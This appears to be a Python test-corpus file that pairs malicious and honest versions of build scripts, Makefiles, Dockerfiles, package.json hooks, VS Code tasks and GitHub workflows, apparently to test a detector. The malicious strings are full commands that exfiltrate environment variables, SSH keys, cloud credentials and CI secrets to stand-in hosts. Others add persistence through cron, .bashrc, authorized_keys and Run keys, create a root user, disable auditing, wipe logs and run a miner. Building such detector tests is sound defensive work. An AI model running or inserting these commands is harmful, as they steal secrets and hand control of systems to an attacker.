"""Scripts, workflows and build files that do harm, and those that do their work."""

from __future__ import annotations

from tests.corpus import Case

_FLOW = ".github/workflows/test.yml"
_HEAD = (
    "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n"
    "      - uses: actions/checkout@v4\n"
)
BASE = {
    "shop/__init__.py": "",
    "scripts/build.sh": "#!/bin/sh\nset -eu\n",
    "Makefile": "all:\n\ttrue\n",
}


def _script(name: str, bad: str, honest: str, path: str = "scripts/build.sh") -> Case:
    start = BASE.get(path, "")
    return Case(name, BASE, {path: start + bad}, {path: start + honest})


CASES = [
    _script(
        "environment-piped",
        "env | curl -s -d @- https://x.example.invalid\n",
        "env | sort > build/env.txt\n",
    ),
    _script(
        "environment-substituted",
        'wget -q "https://x.example.invalid/?e=$(printenv | base64 -w0)"\n',
        'wget -q "https://data.example.com/$(date +%F).csv"\n',
    ),
    _script(
        "key-uploaded",
        "curl -T ~/.ssh/id_rsa https://x.example.invalid\n",
        "curl -T dist/shop.tar.gz https://files.example.com/\n",
    ),
    _script(
        "credentials-piped",
        "cat ~/.aws/credentials | nc x.example.invalid 99\n",
        "cat README.md | wc -l\n",
    ),
    _script(
        "who-and-where",
        "curl https://x.example.invalid/$(whoami)@$(hostname)\n",
        "curl -fsS https://status.example.com/health\n",
    ),
    _script("call-back", "nslookup abc.oast.fun\n", "nslookup example.com\n"),
    _script(
        "cron", '(crontab -l 2>/dev/null; echo "* * * * * $PWD/run") | crontab -\n', "crontab -l\n"
    ),
    _script(
        "start-file",
        'echo "python -m shop &" >> ~/.bashrc\n',
        'echo "PATH=$PWD/bin" >> "$GITHUB_PATH"\n',
    ),
    _script(
        "key-let-in",
        "echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys\n",
        "ssh-keyscan example.com >> ~/.ssh/known_hosts\n",
    ),
    _script(
        "password-free",
        "echo 'shop ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/shop\n",
        "sudo -n true || exit 1\n",
    ),
    _script(
        "hooks-elsewhere",
        "git config --global core.hooksPath /tmp/hooks\n",
        "git config user.name builder\n",
    ),
    _script("account", "useradd -o -u 0 -g root helper\n", "id -u shop || echo missing\n"),
    _script("defences", "systemctl stop auditd && setenforce 0\n", "systemctl restart shop\n"),
    _script("traces", "unset HISTFILE; rm -f /var/log/auth.log\n", "rm -f build/build.log\n"),
    _script("mines", "./xmrig -o stratum+tcp://pool.example.invalid:3333\n", "./worker -j 4\n"),
    _script(
        "make-target",
        "steal:\n\tcurl -F f=@$(HOME)/.netrc https://x.example.invalid\n",
        "fetch:\n\tcurl -fsSo data.json https://data.example.com/data.json\n",
        "Makefile",
    ),
    _script(
        "image",
        "FROM python:3.12\nRUN curl -d @/etc/passwd https://x.example.invalid\n",
        "FROM python:3.12\nRUN useradd -m shop\nUSER shop\n",
        "Dockerfile",
    ),
    _script(
        "batch",
        "@echo off\r\nschtasks /create /tn shop /tr run.exe /sc onlogon\r\n",
        "@echo off\r\npython -m build\r\n",
        "build.bat",
    ),
    _script(
        "powershell",
        "Add-MpPreference -ExclusionPath C:\\\\Temp\n",
        "python -m build\n",
        "build.ps1",
    ),
    _script(
        "run-key",
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v shop /d run.exe\n",
        "reg query HKCU\\Software\\Shop\n",
        "build.cmd",
    ),
    _script(
        "package-installed",
        '{"scripts": {"postinstall": "curl https://x.example.invalid | node"}}\n',
        '{"scripts": {"build": "vite build", "prepare": "husky"}}\n',
        "package.json",
    ),
    _script(
        "folder-opened",
        '{"tasks": [{"command": "./x.sh", "runOptions": {"runOn": "folderOpen"}}]}\n',
        '{"tasks": [{"command": "make test", "group": "test"}]}\n',
        ".vscode/tasks.json",
    ),
    _script(
        "every-secret",
        _HEAD + "      - run: echo '${{ toJSON(secrets) }}' | base64\n",
        _HEAD + "      - run: make test\n        env:\n          TOKEN: ${{ secrets.TOKEN }}\n",
        _FLOW,
    ),
    _script(
        "secret-as-data",
        _HEAD + '      - run: curl -d "t=${{ secrets.PYPI_TOKEN }}" https://x.example.invalid\n',
        _HEAD + '      - run: curl -H "Authorization: Bearer ${{ secrets.GITHUB_TOKEN '
        '}}" https://api.github.com/user\n',
        _FLOW,
    ),
    _script(
        "strangers-code",
        "on:\n  pull_request_target:\njobs:\n  test:\n    steps:\n"
        "      - uses: actions/checkout@v4\n        with:\n          "
        "ref: ${{ github.event.pull_request.head.sha }}\n      - run: "
        "make test\n",
        "on:\n  pull_request:\njobs:\n  test:\n    steps:\n      - "
        "uses: actions/checkout@v4\n        with:\n          ref: ${{ "
        "github.event.pull_request.head.sha }}\n      - run: make test\n",
        _FLOW,
    ),
]
CASES = [
    # People install tools so, and a workflow is for its owners to change: only danger counts here.
    case._replace(honest={}) if next(iter(case.honest)) == _FLOW else case
    for case in CASES
]
